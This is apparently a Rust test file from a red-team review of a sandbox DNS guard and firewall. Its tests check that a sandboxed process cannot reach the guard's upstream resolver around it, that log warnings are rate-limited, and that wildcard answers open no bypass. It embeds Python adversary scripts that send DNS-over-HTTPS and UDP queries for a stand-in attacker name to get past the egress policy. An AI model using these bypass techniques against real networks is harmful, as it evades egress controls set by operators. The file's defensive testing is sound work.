//! The gap between what a policy says and what the fence lets through (red-team session 12,
//! rt-policy): a careful reader of the policy and the README expects no more than the
//! enforced table allows.

use std::net::IpAddr;
use std::time::Duration;

use crate::common::*;

/// As nobody in the sandbox: asks `secret.attacker.example` (a name the policy does not
/// allow) at each address of argv[1..] on port 443 the ways a resolver serves there: DNS over
/// HTTPS (RFC 8484's GET form, over TCP; TLS would change nothing the fence sees) and a DNS
/// message in a UDP datagram (HTTP/3 is UDP 443). One line per try: what the socket said.
const ASK_AROUND_THE_GUARD: &str = r#"
import base64, socket, struct, sys
def labels(name):
    return b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
query = struct.pack(">HHHHHH", 0x5151, 0x0100, 1, 0, 0, 0) + labels("secret.attacker.example") + struct.pack(">HH", 1, 1)
doh = base64.urlsafe_b64encode(query).rstrip(b"=").decode()
for host in sys.argv[1:]:
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    try:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect((host, 443))
        s.sendall(f"GET /dns-query?dns={doh} HTTP/1.1\r\nHost: resolver\r\nAccept: application/dns-message\r\n\r\n".encode())
        s.recv(100)
        print(f"tcp {host} sent", flush=True)
    except OSError as e:
        print(f"tcp {host} {e}", flush=True)
    try:
        u = socket.socket(family, socket.SOCK_DGRAM)
        u.sendto(query, (host, 443))
        print(f"udp {host} sent", flush=True)
    except OSError as e:
        print(f"udp {host} {e}", flush=True)
"#;

/// Listens on TCP and UDP 443 at each of `upstreams`, runs [`ASK_AROUND_THE_GUARD`] at them as
/// nobody and returns what reached the listeners, one line a connection or datagram.
fn what_reaches_the_upstreams_around_the_guard(w: &World, upstreams: &[IpAddr]) -> Vec<String> {
    let listeners: Vec<Listener> = upstreams
        .iter()
        .flat_map(|&ip| [w.listen_tcp(ip, 443), w.listen_udp(ip, 443)])
        .collect();
    let hosts: Vec<String> = upstreams.iter().map(|a| a.to_string()).collect();
    let mut args = vec![PYTHON, "-c", ASK_AROUND_THE_GUARD];
    args.extend(hosts.iter().map(String::as_str));
    let out = w.adversary_cmd(Adversary::Nobody, &args);
    eprintln!("{out}");
    std::thread::sleep(Duration::from_millis(300));
    listeners
        .iter()
        .flat_map(|l| l.hits())
        .map(|h| {
            format!(
                "{} -> {}: {:?}",
                h.peer,
                h.local,
                String::from_utf8_lossy(&h.data)
            )
        })
        .collect()
}

/// Guard mode promises that only the guard's own sockets reach the upstream resolvers ("DNS
/// carries nothing out in guard mode"; `upstream: ... # nobody else may ask them`), but the
/// table held that only for DNS and DNS over TLS (53 and 853): an allow entry that covers the
/// upstream's address on another port let any process ask it there around the guard. A
/// policy that allows the internal network's HTTPS (`cidr: 192.0.2.0/24, ports: [443]`) with
/// the internal resolver in it as the upstream is the common case, and resolvers serve DNS
/// over HTTPS on 443 (AdGuard Home, Technitium, unbound, Windows Server, Route 53 Resolver
/// endpoints): nobody in the sandbox asked the upstream for `secret.attacker.example` over
/// 443, TCP and UDP, IPv4 and IPv6, while the guard refused the same name. Now the upstream
/// addresses are refused to every socket but the guard's, on every port, as the deny list
/// refuses (the guard's DNS comes before the deny list, as a resolver in a denied network's
/// does); the rest of the allowed network stays reachable.
#[test]
fn only_the_guard_reaches_its_upstream_on_any_port() {
    let w = World::new();
    let policy = format!(
        "version: 1\nallow:\n  - cidr: 192.0.2.0/24\n    ports: [443]\n    protocol: any\n\
         \x20 - cidr: 2001:db8:1::/64\n    ports: [443]\n    protocol: any\n\
         dns:\n  mode: guard\n  upstream: [{DNS_V4}, {DNS_V6}]\n"
    );
    let path = w.write_file("guard.yaml", &policy);
    let mut daemon = w.spawn_guard(path.to_str().expect("utf-8"));
    w.use_guard_resolver();

    // The guard refuses the name, and DNS straight to the upstream is refused.
    let refused = w.dig_as(Some(NOBODY), None, "secret.attacker.example", "A", &[]);
    assert_eq!(
        refused.status.as_deref(),
        Some("REFUSED"),
        "the guard refuses the name: {refused:?}"
    );
    let direct = w.dig_as(
        Some(NOBODY),
        Some(DNS_V4),
        "secret.attacker.example",
        "A",
        &[],
    );
    assert!(
        !direct.answered(),
        "DNS straight to the upstream: {direct:?}"
    );

    // The allowed network's other hosts stay reachable on 443.
    let _api = w.listen_tcp(HOST_V4, 443);
    assert!(
        w.adversary_cmd(
            Adversary::Nobody,
            &["nc", "-z", "-w", "2", &HOST_V4.to_string(), "443"]
        )
        .success(),
        "the allowed network's HTTPS is reachable"
    );

    let reached = what_reaches_the_upstreams_around_the_guard(&w, &[DNS_V4, DNS_V6]);
    assert!(
        reached.is_empty(),
        "a process other than the guard reached the upstream resolver, asking it a name the \
         guard refuses:\n{}",
        reached.join("\n")
    );
    daemon.terminate();
}

/// As nobody in the sandbox: asks the guard (argv[1]) argv[2] distinct names under
/// `pool.example`, one A question each over UDP, and prints how many were answered.
const MANY_NAMES: &str = r#"
import socket, struct, sys
guard, count = sys.argv[1], int(sys.argv[2])
def labels(name):
    return b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
answered = 0
for i in range(count):
    q = struct.pack(">HHHHHH", i, 0x0100, 1, 0, 0, 0) + labels(f"n{i}.pool.example") + struct.pack(">HH", 1, 1)
    s.sendto(q, (guard, 53))
    try:
        s.recv(4096)
        answered += 1
    except OSError:
        pass
print(answered, flush=True)
"#;

/// Under an allowed wildcard the zone's owner writes the answers, and an answer in a denied
/// network was warned about with one log line per address and answer, beside the guard's
/// other lines about answers, which all take the policy's `log.rate` ("a flood of random
/// names cannot flood the journal"): the sandbox wrote a line into the daemon's log with every
/// question (32 per answer of 32 addresses), a flood that journald's own rate limit then
/// answers by dropping the service's next lines, the refusals the operator would look for
/// among them. Now those warnings take `log.rate` and `log.burst` too, and say how many they
/// held back.
#[test]
fn answers_in_denied_networks_do_not_flood_the_log() {
    let w = World::new();
    w.dns_wildcard("pool.example", METADATA_V4);
    let policy = format!(
        "version: 1\nallow:\n  - domain: \"*.pool.example\"\n    ports: [80]\n\
         deny:\n  - preset: cloud-metadata\n\
         dns:\n  mode: guard\n  upstream: [{DNS_V4}]\n\
         log:\n  rate: 1/minute\n  burst: 5\n"
    );
    let path = w.write_file("guard.yaml", &policy);
    let mut daemon = w.spawn_guard(path.to_str().expect("utf-8"));
    let asked = 200;
    let out = w.adversary_cmd(
        Adversary::Nobody,
        &[
            PYTHON,
            "-c",
            MANY_NAMES,
            &GUARD_V4.to_string(),
            &asked.to_string(),
        ],
    );
    assert!(out.success(), "{out}");
    let answered: usize = out.stdout.trim().parse().expect("a count");
    assert!(answered > asked / 2, "the guard answered: {out}");
    daemon.terminate();
    let log = daemon.stderr();
    let lines = log
        .lines()
        .filter(|l| l.contains("inside the denied"))
        .count();
    assert!(lines > 0, "the denied answers are warned about:\n{log}");
    assert!(
        lines <= 10,
        "{answered} answers wrote {lines} lines about denied addresses into the log, past \
         log.rate 1/minute burst 5"
    );
}

/// Red team H's fix keeps the guard's upstream out of the deny sets when an allow entry names
/// its address alone (`cidr: 192.0.2.53/32` on udp 123: the router that is also the NTP
/// server, the README's own example), and says that then only "that entry's ports" open. But
/// out of the deny sets the upstream is an address like any other: every other allow entry
/// that holds it opens its ports too, and so does an answer under an allowed wildcard, whose
/// zone the adversary writes. Here the zone answers the upstream's address for any name
/// under it: the guard installs it for the wildcard's port 443, and nobody in the sandbox
/// asks the upstream `secret.attacker.example` over DNS over HTTPS, around the guard that
/// refuses the name (`check` warned only that the NTP entry's ports are open).
#[test]
fn an_answer_under_a_wildcard_does_not_open_the_guards_upstream() {
    let w = World::new();
    w.dns_wildcard("pool.example", DNS_V4);
    let policy = format!(
        "version: 1\nallow:\n  - cidr: {DNS_V4}/32\n    ports: [123]\n    protocol: udp\n\
         \x20 - domain: \"*.pool.example\"\n    ports: [443]\n\
         dns:\n  mode: guard\n  upstream: [{DNS_V4}]\n"
    );
    let path = w.write_file("guard.yaml", &policy);
    let mut daemon = w.spawn_guard(path.to_str().expect("utf-8"));
    w.use_guard_resolver();

    let refused = w.dig_as(Some(NOBODY), None, "secret.attacker.example", "A", &[]);
    assert_eq!(
        refused.status.as_deref(),
        Some("REFUSED"),
        "the guard refuses the name: {refused:?}"
    );
    // The adversary's zone answers the upstream's address; the guard installs what it
    // answers (a "stays refused (deny wins)" warning only if the upstream were denied).
    let opened = w.dig_as(Some(NOBODY), None, "doh.pool.example", "A", &[]);
    eprintln!("doh.pool.example: {opened:?}");

    let reached = what_reaches_the_upstreams_around_the_guard(&w, &[DNS_V4]);
    assert!(
        reached.is_empty(),
        "a process other than the guard reached the upstream resolver on 443 through an \
         answer under the allowed wildcard, asking it a name the guard refuses:\n{}",
        reached.join("\n")
    );
    daemon.terminate();
}

/// The deny sets come after loopback's accept (`oif "lo" accept`), so they cannot refuse what
/// goes to an address of this host: an upstream resolver that runs on the host itself at one
/// of its own addresses (unbound or AdGuard Home bound to the host's LAN address, a resolver
/// on docker0's) is reached over loopback by every process, on every port but the guarded
/// DNS ports, DNS over HTTPS on 443 among them: around the guard, though "nothing but the
/// guard reaches an upstream's address on any port". `check` warns about an upstream in
/// 127.0.0.0/8 ("every local process may reach it"), and `check` and `run` now also about one
/// of the host's other addresses (read from its interfaces). Not fixed: refusing the upstreams
/// before loopback's accept needs a rule of its own in the table (the deny sets hold networks
/// that may hold the host's own addresses, which loopback must keep reaching).
#[test]
#[ignore = "finding: an upstream at one of the host's own (non-127) addresses is reached over \
            loopback by every process on every non-DNS port; warned by check and run, not refused"]
fn an_upstream_on_the_hosts_own_address_is_reached_by_the_guard_alone() {
    use std::net::{SocketAddr, TcpListener};
    let w = World::new();
    let upstream: IpAddr = "198.18.0.53".parse().expect("an address");
    let ns = w.sandbox_name().to_string();
    let added = std::process::Command::new("ip")
        .args(["-n", &ns, "addr", "add", "198.18.0.53/32", "dev", "lo"])
        .status()
        .expect("run ip");
    assert!(added.success(), "add the upstream's address to the sandbox");
    let doh = w.in_sandbox_ns(|| TcpListener::bind(SocketAddr::new(upstream, 443)).expect("bind"));
    doh.set_nonblocking(true).expect("non-blocking");
    let policy = format!(
        "version: 1\nallow:\n  - domain: api.example\n    ports: [443]\n\
         dns:\n  mode: guard\n  upstream: [{upstream}]\n"
    );
    let path = w.write_file("guard.yaml", &policy);
    let mut daemon = w.spawn_guard(path.to_str().expect("utf-8"));
    let out = w.adversary_cmd(
        Adversary::Nobody,
        &[PYTHON, "-c", ASK_AROUND_THE_GUARD, &upstream.to_string()],
    );
    eprintln!("{out}");
    let reached = (0..20).any(|_| {
        std::thread::sleep(Duration::from_millis(50));
        doh.accept().is_ok()
    });
    daemon.terminate();
    assert!(
        !reached,
        "a process other than the guard reached the upstream on this host's own address, on \
         443, around the guard"
    );
}
